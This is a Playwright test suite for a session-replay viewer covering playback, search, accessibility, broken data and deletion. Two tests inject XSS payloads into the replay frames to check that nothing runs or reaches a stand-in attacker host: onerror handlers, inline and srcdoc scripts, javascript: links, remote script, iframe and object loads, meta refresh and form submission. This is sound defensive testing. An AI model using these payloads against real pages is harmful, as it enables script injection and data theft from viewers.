import { expect, type Frame, type Page } from '@playwright/test'
import { hostileRecording, startAttacker } from './hostile-recording.ts'
import { logInAsOwner, seriousFindings } from './log-in-as-owner.ts'
import { looks } from './looks.ts'
import { type RecordedShop, startRecordedShop } from './recorded-shop.ts'
import { serverTest as test } from './server-test.ts'
import { credentials, type RunningServer } from './start-server.ts'
import { type RecordedEvent, type RecordedVisit, recordVisit } from './visit-recorder.ts'

const heading = (page: Page) => page.getByRole('heading', { level: 1 })
const moment = (page: Page) => page.getByRole('slider', { name: 'Moment of the recording' })
const play = (page: Page) => page.getByRole('button', { name: 'Play', exact: true }).last()

let shop: RecordedShop
test.beforeAll(async () => {
  shop = await startRecordedShop()
})
test.afterAll(() => shop.close())
test.beforeEach(async ({ page, server }) => logInAsOwner(page, server))

/** A visit to the shop with a checkout that fails; a minute and a half long, recorded in seconds. */
async function failedCheckout(visitor: Page): Promise<RecordedVisit> {
  await visitor.setViewportSize({ width: 1000, height: 600 })
  const visit = await recordVisit(visitor)
  await visitor.goto(shop.url)
  await visitor.mouse.move(300, 300, { steps: 4 })
  visit.idle(20_000)
  await visitor.locator('.grid a').first().click()
  await visitor.locator('#add').click()
  visit.idle(30_000)
  await visitor.goto(`${shop.url}/checkout`)
  await visitor.locator('#name').fill('Ada Example')
  await visitor.locator('#pay').click()
  visit.signal('Request Failed', { url: `${shop.url}/api/pay`, method: 'POST', status: 500 })
  visit.idle(9_000)
  for (let click = 0; click < 4; click += 1) await visitor.locator('#pay').click()
  visit.signal('Rage Clicked', { element: '#pay', element_text: 'Pay now', clicks: 4 })
  visit.idle(14_000)
  const last = visit.now()
  await visitor.getByRole('heading').click()
  // The recorder gathers for up to half a second what the mouse does.
  await expect.poll(() => visit.events.some(({ timestamp }) => timestamp >= last)).toBe(true)
  return visit
}

/** The page in which the recording is rebuilt: a frame in the server's empty one. */
async function replayed(page: Page): Promise<Frame> {
  const inner = () =>
    page.frames().find((frame) => frame.parentFrame()?.url().includes('/replay-frame') === true)
  await expect.poll(() => inner() !== undefined).toBe(true)
  const frame = inner()
  if (!frame) throw new Error('No recording is being replayed')
  return frame
}

test('says how to switch recording on while there is none', async ({ page }) => {
  await page.goto('/recordings')
  await expect(heading(page)).toHaveText('Here you will watch what your visitors saw and did.')
  await expect(page.getByLabel('Code that switches recording on')).toContainText('data-replay="friction"')
  await expect(page.getByLabel('Code that switches recording on')).toContainText(credentials.writeKey)
  expect(await seriousFindings(page)).toEqual([])
})

test.describe('a visit', () => {
  let visit: RecordedVisit
  test.beforeAll(async ({ browser, server }) => {
    const visitor = await browser.newPage()
    visit = await failedCheckout(visitor)
    await visit.send(server.url, 4)
    await visitor.close()
  })

  test('stands in the list, and is found by signal, page and person', async ({ page }) => {
    await page.goto('/recordings?period=7d')
    await expect(heading(page)).toHaveText('1 recording in the last 7 days; 1 with rage clicks.')
    const row = page.getByRole('row', { name: /Watch/ })
    await expect(row).toContainText('01:1')
    await expect(row.getByRole('cell').last()).toContainText('1 rage click')
    await expect(row).toContainText('Germany')
    expect(await seriousFindings(page)).toEqual([])

    await page.getByLabel('On the page').fill('/product/*')
    await expect(page).toHaveURL(/path=/)
    await expect(heading(page)).toContainText('1 recording of /product/*')
    await page.getByLabel('Of the person').fill('nobody')
    await expect(page.getByText('Nobody is known by “nobody”.')).toBeVisible()
    await page.getByRole('button', { name: 'Show those of everyone' }).click()
    await page.getByLabel('On the page').fill('/nowhere')
    await expect(page.getByText('No recording fits.')).toBeVisible()
    await page.getByRole('button', { name: 'Show all recordings' }).click()
    await page.getByRole('combobox', { name: 'With the signal' }).click()
    await page.getByRole('option', { name: 'Dead clicks' }).click()
    await expect(heading(page)).toHaveText('No recording with dead clicks in the last 7 days.')
    await page.getByRole('combobox', { name: 'With the signal' }).click()
    await page.getByRole('option', { name: 'Failed requests' }).click()
    await page.getByRole('link', { name: /Watch/ }).click()
    await expect(heading(page)).toContainText('saw 3 pages in 1')
    await expect(heading(page)).toContainText('1 rage click and 1 failed request')
  })

  test('plays by itself and skips what is idle', async ({ page }) => {
    await page.goto(`/recordings/${visit.recordingId}`)
    await expect(page.getByText(/Skipped 1\d.s without activity/)).toBeVisible()
    await expect((await replayed(page)).getByText('Walnut desk lamp').first()).toBeVisible()
    await expect(page.getByText(/Skipped 2\d.s without activity/)).toBeVisible()
    await page.getByRole('button', { name: 'Pause' }).last().click()
    await expect(page).toHaveURL(/t=/)
  })

  test('goes where keys, signals, lists and links lead', async ({ page, context }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    await page.goto(`/recordings/${visit.recordingId}?t=1`)
    await expect(moment(page)).toHaveAttribute('aria-valuenow', '1')
    const frame = await replayed(page)
    await expect(frame.getByText('Six lamps, well made')).toBeVisible()
    await expect(play(page)).toBeVisible()

    await page.keyboard.press('ArrowRight')
    await expect(moment(page)).toHaveAttribute('aria-valuenow', '6')
    await page.keyboard.press('ArrowLeft')
    await expect(moment(page)).toHaveAttribute('aria-valuenow', '1')
    await page.keyboard.press('n')
    await expect(frame.getByText('It is in your cart.')).toBeVisible()
    const first = Number(await moment(page).getAttribute('aria-valuenow'))
    await page.keyboard.press('n')
    await expect
      .poll(async () => Number(await moment(page).getAttribute('aria-valuenow')))
      .toBeGreaterThan(first + 5)
    await page.keyboard.press('p')
    await expect(moment(page)).toHaveAttribute('aria-valuenow', String(first))

    await page.getByRole('button', { name: /^Rage click on “Pay now”/ }).click()
    await expect
      .poll(async () => Number(await moment(page).getAttribute('aria-valuenow')))
      .toBeGreaterThan(first + 5)
    await page.getByRole('tab', { name: /^Pages 3/ }).click()
    await page.getByRole('list', { name: 'Pages' }).getByRole('button', { name: '/product/lamp' }).click()
    await expect(frame.getByText('€49.90, delivered on Thursday.')).toBeVisible()
    await page.getByRole('tab', { name: /^Console/ }).click()
    await page
      .getByRole('button', { name: /Payment failed: 500/ })
      .first()
      .click()
    await expect(page.locator('[aria-current=true]')).toContainText('Payment failed')
    await page.keyboard.press('ArrowRight')
    await expect(frame.getByText('The payment did not go through.')).toBeVisible()
    await expect(frame.locator('#name')).toHaveValue('***********')

    const at = await moment(page).getAttribute('aria-valuenow')
    await page.getByRole('button', { name: 'Copy link' }).click()
    const link = await page.evaluate(() => navigator.clipboard.readText())
    expect(link).toMatch(/\?t=\d/)
    await page.goto(link)
    await expect(moment(page)).toHaveAttribute('aria-valuenow', at ?? '')
    await expect((await replayed(page)).getByText('The payment did not go through.')).toBeVisible()
    await expect(page.getByText(/^\d\d:\d\d:\d\d UTC$/)).toBeVisible()
  })

  test('plays faster, to its end, and again from its start', async ({ page }) => {
    await page.goto(`/recordings/${visit.recordingId}?t=60`)
    await page.getByText('8×').click()
    await page.getByRole('switch', { name: /^Skip idle/ }).click()
    await play(page).click()
    await expect(page.getByRole('button', { name: 'Play again' })).toBeVisible()
    await page.keyboard.press(' ')
    await expect(page.getByRole('button', { name: 'Pause' }).last()).toBeVisible()
    await expect.poll(async () => Number(await moment(page).getAttribute('aria-valuenow'))).toBeLessThan(50)
  })

  test('is led to from the person, and leads there', async ({ page }) => {
    await page.goto(`/recordings/${visit.recordingId}?t=1`)
    await page.getByRole('link', { name: /^All that is known of Visitor/ }).click()
    await expect(page).toHaveURL(/\/people\//)
    await page.getByRole('link', { name: 'Watch the recording' }).first().click()
    await expect(page).toHaveURL(new RegExp(`/recordings/${visit.recordingId}`))
  })

  for (const [colorScheme, width] of looks) {
    test(`is accessible and fits, ${colorScheme}, ${width} wide`, async ({ page }) => {
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
      await page.setViewportSize({ width, height: 900 })
      for (const path of [
        '/recordings',
        `/recordings/${visit.recordingId}?t=60`,
        '/recordings/no-such-recording',
      ]) {
        await page.goto(path)
        await expect(heading(page)).toBeVisible()
        if (path.includes('t=60')) await expect(moment(page)).toHaveAttribute('aria-valuenow', '60')
        expect(await seriousFindings(page), path).toEqual([])
        const tooWide = await page.locator('html').evaluate((html) => html.scrollWidth - html.clientWidth)
        expect(tooWide, path).toBe(0)
      }
    })
  }
})

async function sendEvents(
  server: RunningServer,
  recordingId: string,
  chunk: number,
  events: readonly RecordedEvent[],
) {
  const times = events.map(({ timestamp }) => timestamp).filter((time) => time > 1_000_000)
  const answer = await fetch(`${server.url}/v1/replay`, {
    method: 'POST',
    body: JSON.stringify({
      writeKey: credentials.writeKey,
      recordingId,
      sessionId: `session-${recordingId}`,
      anonymousId: `visitor-${recordingId}`,
      chunk,
      startedAt: Math.min(...times),
      endedAt: Math.max(...times),
      pages: [],
      viewport: { width: 1000, height: 600 },
      events,
    }),
  })
  expect(answer.status, await answer.text()).toBe(200)
}

test('a recording with a part missing and broken events is shown as far as it goes', async ({
  page,
  browser,
  server,
}) => {
  const visitor = await browser.newPage()
  const visit = await failedCheckout(visitor)
  await visitor.close()
  const events = visit.events.toSorted((a, b) => a.timestamp - b.timestamp)
  const at = events[0]?.timestamp ?? 0
  const broken: RecordedEvent[] = [
    { type: 3, timestamp: at + 100, data: { source: 1 } },
    { type: 3, timestamp: at + 110, data: { source: 2, type: 99, id: 'x' } },
    { type: 3, timestamp: at + 120, data: null },
    { type: 2, timestamp: at + 130, data: { node: { type: 2, tagName: '<bad>', attributes: 7 } } },
    {
      type: 3,
      timestamp: at + 140,
      data: { source: 0, adds: [{ parentId: 4, node: 'no' }], removes: 7, texts: null, attributes: {} },
    },
    { type: 4, timestamp: at + 150, data: { width: 1e12, height: -1 } },
  ]
  const pages = events.flatMap(({ type }, index) => (type === 4 ? [index] : []))
  const [, second = 0, third = 0] = pages
  // Out of order, one twice, and the second never arrives.
  await sendEvents(server, 'broken-recording', 2, events.slice(third))
  await sendEvents(server, 'broken-recording', 0, [...events.slice(0, second).reverse(), ...broken])
  await sendEvents(server, 'broken-recording', 0, events.slice(0, second))
  await page.goto('/recordings/broken-recording?t=1')
  await expect((await replayed(page)).getByText('Six lamps, well made')).toBeVisible()
  await expect(page.getByText('Part 2 of 3 is missing.')).toBeVisible()
  await expect(page.getByText('5 events could not be read and are left out.')).toBeVisible()
  await page.keyboard.press('End')
  await moment(page).press('End')
  await expect((await replayed(page)).getByText('The payment did not go through.')).toBeVisible()
  expect(await seriousFindings(page)).toEqual([])

  await sendEvents(
    server,
    'pictureless-recording',
    0,
    broken.concat({ type: 3, timestamp: at + 9_000, data: { source: 3, id: 1, x: 0, y: 0 } }),
  )
  await page.goto('/recordings/pictureless-recording')
  await expect(page.getByText('This recording can’t be shown.')).toBeVisible()
})

test('a hostile recording runs, loads and sends nothing', async ({ page, server, context }) => {
  const attacker = await startAttacker()
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const startedAt = Date.now() - 60_000
  const events = hostileRecording(startedAt, attacker.host)
  await sendEvents(server, 'hostile-recording', 0, events)
  await page.goto('/recordings/hostile-recording?t=0')
  const frame = await replayed(page)
  await expect(frame.getByText('A page that means harm')).toBeVisible()
  await moment(page).press('End')
  await expect(frame.locator('#later')).toBeVisible()
  await play(page).click()
  await page.getByRole('tab', { name: /Console/ }).click()
  await expect(page.getByText(/^<img src=x onerror/)).toBeVisible()

  const nothingHappened = async (): Promise<void> => {
    await page.waitForTimeout(300)
    for (const one of page.frames()) expect(await one.evaluate('window.hacked'), one.url()).toBeUndefined()
    expect(dialogs).toEqual([])
    expect(context.pages()).toHaveLength(1)
    expect(page.url()).toContain('/recordings/hostile-recording')
    expect((await context.cookies()).map(({ name }) => name)).not.toContain('stolen')
  }
  await nothingHappened()
  expect(attacker.requests).toEqual([])

  // What a viewer could be lured into: the page under the player takes no click and no key, and if it did, nothing comes of it.
  for (const id of ['script-link', 'spaced-link', 'top-link', 'blank-link', 'later', 'send'])
    await frame.locator(`#${id}`).evaluate((element) => (element as HTMLElement).click())
  await frame.locator('#form').evaluate((form) => (form as HTMLFormElement).submit())
  await nothingHappened()
  expect(attacker.requests).toEqual([])

  // With the attacker's pictures allowed, pictures and styles come, and still nothing runs.
  await page.getByRole('button', { name: /^Load from/ }).click()
  await expect((await replayed(page)).getByText('A page that means harm')).toBeVisible()
  await expect.poll(() => attacker.requests.length).toBeGreaterThan(0)
  await nothingHappened()
  const allowed =
    /^\/(picture|srcset|picture-later|background|body|style|import|inline|rule|poster|use|canvas|noscript)/
  expect(attacker.requests.filter((path) => !allowed.test(path))).toEqual([])
  await attacker.close()
})

test('the frame holds even what the cleaning would let through', async ({ page, server }) => {
  const attacker = await startAttacker()
  await sendEvents(server, 'walled-recording', 0, hostileRecording(Date.now() - 60_000, attacker.host))
  await page.goto('/recordings/walled-recording?t=0')
  const frame = await replayed(page)
  await expect(frame.getByText('A page that means harm')).toBeVisible()
  await page.evaluate((evil) => {
    const outer = document.querySelector('iframe')?.contentDocument
    const inner = outer?.querySelector('iframe')?.contentDocument
    if (!inner || !outer) throw new Error('No frame')
    const run = 'top.hacked=1;parent.hacked=1;window.hacked=1'
    for (const inside of [inner, outer]) {
      inside.body.insertAdjacentHTML(
        'beforeend',
        `<img src="x" onerror="${run}"><iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>
        <object data="${evil}/object"></object><embed src="${evil}/embed"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
        <a id="lure" href="javascript:${run}">x</a><form id="lured" action="${evil}/form"></form><video src="${evil}/video" autoplay></video>`,
      )
      const script = inside.createElement('script')
      script.textContent = run
      inside.body.append(script)
      const loaded = inside.createElement('script')
      loaded.src = `${evil}/script`
      inside.body.append(loaded)
      inside.getElementById('lure')?.click()
      const form = inside.getElementById('lured')
      if (form instanceof HTMLFormElement || form) (form as HTMLFormElement).submit()
    }
  }, `http://${attacker.host}`)
  await page.waitForTimeout(500)
  expect(await page.evaluate('window.hacked')).toBeUndefined()
  expect(page.url()).toContain('/recordings/walled-recording')
  expect(attacker.requests).toEqual([])
  await attacker.close()
})

test('a recording is deleted once that is confirmed', async ({ page, server }) => {
  await sendEvents(server, 'doomed-recording', 0, hostileRecording(Date.now() - 60_000, 'nowhere.example'))
  await page.goto('/recordings/doomed-recording?t=0')
  await page.getByRole('button', { name: 'Delete', exact: true }).click()
  await expect(page.getByText('What was recorded goes for good')).toBeVisible()
  expect(await seriousFindings(page)).toEqual([])
  await page.getByRole('button', { name: 'Keep it' }).click()
  await page.getByRole('button', { name: 'Delete', exact: true }).click()
  await page.getByRole('button', { name: 'Delete the recording' }).click()
  await expect(page).toHaveURL(/\/recordings(\?|$)/)
  await page.goto('/recordings/doomed-recording')
  await expect(heading(page)).toHaveText('There is no such recording any more.')
})
